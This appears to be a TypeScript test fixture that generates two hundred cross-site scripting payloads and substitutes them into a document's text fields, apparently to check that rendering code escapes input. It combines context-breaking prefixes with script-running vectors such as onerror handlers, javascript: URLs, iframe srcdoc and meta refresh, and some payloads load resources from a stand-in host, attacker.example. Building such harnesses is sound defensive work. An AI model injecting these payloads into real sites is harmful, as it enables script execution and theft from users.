/** Ends each place that a text may stand in: an element, an attribute of any quotes, a comment, a style, a title. */
const ways = [
  '',
  '">',
  "'>",
  '`>',
  '" ',
  "' ",
  '</title>',
  '</style>',
  '</textarea>',
  '</script>',
  '-->',
  ']]>',
  '</svg>',
  '</p></dd></dl>',
  '&quot;>',
  '%22%3E',
  '\\u0022>',
  '\u2028">',
  '<!--',
  '{{',
] as const;

const run = 'window.attacked=1';

/** Each runs a script where it is markup, an attribute or an address. */
const attacks = [
  `<script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `<details open ontoggle=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<iframe srcdoc="<script>parent.${run}</script>">`,
  `<a href="javascript:${run}" autofocus onfocus=${run}>x</a>`,
  `<style>@import "https://attacker.example/x.css";*{background:url(https://attacker.example/)}</style>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}"><base href=https://attacker.example/>`,
  `javascript:${run}//`,
] as const;

/** Two hundred texts of attackers: each attack after each way out of a text. */
export const xssPayloads: readonly string[] = ways.flatMap((way) =>
  attacks.map((attack) => way + attack),
);

/** The same document with every text replaced, but that of its category. */
export function attacked(value: unknown, text: string, key = ''): unknown {
  if (typeof value === 'string') return key === 'category' ? value : text;
  if (Array.isArray(value)) return value.map((entry) => attacked(entry, text));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([name, inner]) => [name, attacked(inner, text, name)]),
  );
}
